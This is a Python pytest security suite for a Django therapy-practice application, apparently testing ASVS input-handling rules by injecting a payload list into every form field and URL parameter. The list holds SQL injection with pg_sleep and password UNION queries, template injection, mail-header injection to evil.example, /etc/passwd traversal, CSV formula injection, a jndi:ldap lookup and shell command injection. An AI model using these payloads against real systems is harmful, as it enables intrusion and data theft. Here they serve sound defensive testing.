"""Text that means something to a machine, typed into every field and every question (ASVS 1.2.4, 1.2.5, 1.3.x).

The fields are found by opening the pages, the names of questions by reading the code: a new form, field or parameter
is attacked from its first day.
"""

import csv
import io
import re
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from accounts.models import Practitioner, User
from patients.models import Patient
from tests.security.addresses import addresses
from tests.security.forms import Form, every_form, forms_in
from tests.security.practice import Practice

pytestmark = pytest.mark.django_db
SignIn = Callable[[User], Client]
RolledBack = Callable[[Callable[[], Any]], Any]
ROOT = Path(__file__).resolve().parent.parent.parent
SLOW = 6  # seconds; pg_sleep below asks for nine
PRODUCT = "9801547"  # 1337 × 7331, for whatever counts it out
TAG = '<b id="rt">'
# One of these in each field, in turn ...
PAYLOADS = [
    f"' OR pg_sleep(9) IS NULL -- {TAG}", "'; SELECT pg_sleep(9); --", "1) UNION SELECT password FROM accounts_user --",
    "$$; SELECT pg_sleep(9); $$", f'" OR ""="{TAG}', "\\' /* ", f"%' ESCAPE '{TAG}",
    f"{{{{1337*7331}}}}{{% debug %}}${{1337*7331}}<%= 1337*7331 %>{TAG}", "{{ settings.SECRET_KEY }}{% load static %}",
    f"{{0.__class__.__mro__}}{{}} %(x)s %s %n %d {TAG}", f"a\r\nBcc: thief@evil.example\r\n\r\nx{TAG}",
    "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd\\..\\", '=HYPERLINK("http://evil.example")', "@SUM(1+1)",
    f"\u202egnp.exe\u2066\ufeff{TAG}", "__proto__", f"${{jndi:ldap://evil.example/a}}{TAG}", "a;id|id`id`$(id)",
]  # fmt: skip
# ... and one of these where a number is expected, or kept by the page.
NUMBERS = ["9" * 4500, "²"]
# What the desk and the owner see as the therapist does.
SAME_FOR_STAFF = re.compile(
    "/agenda/(book|series|waiting-list|appointments|messages)|/(patients|plans|plans/intakes)/([0-9a-f-]{36}|register)"
)
PEOPLE = ("treating therapist", "owner", "receptionist", "patient")


def faults(response: Any, seconds: float) -> list[str]:
    """What is wrong with an answer to an attack."""
    found = [f"{response.status_code}"] if response.status_code >= 500 else []
    found += [f"{seconds:.1f} s"] if seconds > SLOW else []
    if response.streaming:
        return found
    body = response.content.decode(errors="replace")
    found += ["counted out"] if PRODUCT in body else []
    found += ["a tag"] if TAG in body and "html" in response.get("Content-Type", "") else []
    return found + [name for name, value in response.items() if "\n" in value or "\r" in value]


def asked(client: Client, method: str, path: str, values: dict[str, Any]) -> tuple[Any, list[str]]:
    """Send a request; return the answer with what was wrong about it."""
    begun = time.perf_counter()
    response = getattr(client, method)(path, values)
    return response, faults(response, time.perf_counter() - begun)


def attacked(client: Client, form: Form, typed: dict[str, str], *, follows: bool = False) -> list[str]:
    """Type payloads in fields, send the form, and look where it leads."""
    response, wrong = asked(client, form.method, form.action, form.filled(**typed))
    where = response.get("Location", "")
    if follows and where.startswith("/"):
        wrong += faults(client.get(where), 0)
    short = {name: payload[:24] for name, payload in typed.items()}
    return [f"{form.method} {form.action} {short}: {each}" for each in wrong]


def attacks_on(form: Form, start: int) -> Iterator[dict[str, str]]:
    """Yield what to type: a payload in each field, in turn; of a long form in some fields at once."""
    fields = form.kinds_of_text
    step = max(1, len(fields) // 4)
    for first in range(0, len(fields), step):
        group = fields[first : first + step]
        yield {name: PAYLOADS[(start + first + place) % len(PAYLOADS)] for place, name in enumerate(group)}
        numbers = [name for name in group if name in form.numbers]
        if numbers:
            yield dict.fromkeys(numbers, NUMBERS[(start + first) % 2])


@pytest.mark.nightly
@pytest.mark.parametrize("role", PEOPLE)
def test_no_field_of_a_form_is_a_way_in(
    role: str, practice: Practice, client_of: SignIn, rolled_back: RolledBack
) -> None:
    """A payload in each field, a number that is none where one is expected: no crash, nothing run, all escaped."""
    user = practice.user(role)
    assert user is not None
    client, wrong, count = client_of(user), [], 0
    client.raise_request_exception = False
    for form in list(every_form(client, practice)):
        if role != "treating therapist" and SAME_FOR_STAFF.match(form.action):
            continue
        for number, typed in enumerate(attacks_on(form, count)):
            attack = partial(attacked, client, form, typed, follows=number == 0)
            wrong += rolled_back(attack)
            count += 1
    assert count > 20
    assert not wrong, "\n".join(wrong)


def names_asked_for() -> set[str]:
    """The names that views look for in an address, by what their code says."""
    rooms = ("accounts", "patients", "scheduling", "pathways", "fysicure")
    code = "\n".join(path.read_text("utf-8") for room in rooms for path in (ROOT / room).rglob("*.py"))
    return set(re.findall(r"GET(?:\.get\(|\[|\.getlist\()\"(\w+)\"", code)) | {"q", "next", "page_size", "ordering"}


@pytest.mark.nightly
@pytest.mark.parametrize("role", PEOPLE)
def test_no_question_in_an_address_is_a_way_in(role: str, practice: Practice, client_of: SignIn) -> None:
    """Every name with a payload, at every address; the payloads take turns."""
    user = practice.user(role)
    assert user is not None
    client, names, wrong = client_of(user), sorted(names_asked_for()), []
    client.raise_request_exception = False
    for number, address in enumerate(addresses(practice, practice.record)):
        values = {name: [*PAYLOADS, "9" * 400, "²"][(number + place) % 21] for place, name in enumerate(names)}
        _response, found = asked(client, "get", address.path, values)
        wrong += [f"{address.name}: {each}" for each in found]
    assert not wrong, "\n".join(wrong)


def test_what_was_typed_comes_back_as_it_was_typed(practice: Practice, client_of: SignIn) -> None:
    """Kept to the letter, shown escaped: nothing is stripped, and nothing is taken for code (ASVS 1.2.1, 1.3.3)."""
    client, patient = client_of(practice.receptionist), practice.record.patient
    path, chart = reverse("patients:edit", args=[patient.pk]), reverse("patients:chart", args=[patient.pk])
    for payload in (each for each in PAYLOADS if "\n" not in each and "\ufeff" not in each):
        form = next(each for each in forms_in(client.get(path).content.decode(), path) if "street" in each.values)
        given = {
            "street": payload,
            "national_number": "",
            "postal_code": "2400",
            "email": patient.email,
            "phone": patient.phone,
        }
        assert client.post(path, form.filled(**given)).status_code == 302, payload
        patient.refresh_from_db()
        assert patient.street == payload.strip()
        assert escape(payload.strip()) in client.get(chart).content.decode()


def test_a_cell_of_a_file_is_no_formula(practice: Practice, client_of: SignIn) -> None:
    """Every file for a spreadsheet, with names that begin as a formula does (ASVS 1.2.10)."""
    client_of(practice.treating.user).get(reverse("patients:chart", args=[practice.record.patient.pk]))
    seen = 0
    for number, sign in enumerate("=+-@\t\r\n＝＋－＠"):
        Practitioner.objects.filter(pk=practice.treating.pk).update(name=f"{sign}cmd|' /C calc'!A0")
        User.objects.update(name=f"{sign}cmd|' /C calc'!A0")
        Patient.objects.update(family_name=f"{sign}cmd|' /C calc'!A0")
        client, files = client_of(practice.owner), ["/agenda/numbers/weeks.csv"]
        files += [f"/audit/{what}.csv" for what in ("reads", "events", "changes")] if number % 4 == 0 else []
        for path in files:
            response = client.get(path)
            assert response.status_code == 200, path
            text = (b"".join(response) if response.streaming else response.content).decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
            seen += sum("calc" in cell for cell in cells)
            assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))], path
    assert seen > 10


def test_a_mail_has_only_our_headers(practice: Practice, client_of: SignIn) -> None:
    """Lines in an address or a name make no second header (ASVS 1.3.11)."""
    anonymous = Client(raise_request_exception=False)
    for bad in ("a@b.example\r\nBcc: t@evil.example", "a@b.example\nSubject: x", "a@b.example%0d%0aBcc:t@evil.example"):
        for path in ("/account/code/", "/account/password/reset/"):
            assert anonymous.post(path, {"email": bad}).status_code < 500
    assert [each.to for each in mail.outbox if "evil" in str(each.message())] == []
    Patient.objects.filter(pk=practice.record.patient.pk).update(
        user=None, email="new@mail.example", family_name="x\r\nBcc: t@evil.example", given_name="y\nBcc: t@evil.example"
    )
    client_of(practice.receptionist).post(reverse("patients:invite", args=[practice.record.patient.pk]))
    assert mail.outbox
    for each in mail.outbox:
        sent = each.message()
        assert sent["Bcc"] is None
        assert all("\n" not in str(value) for value in sent.values())
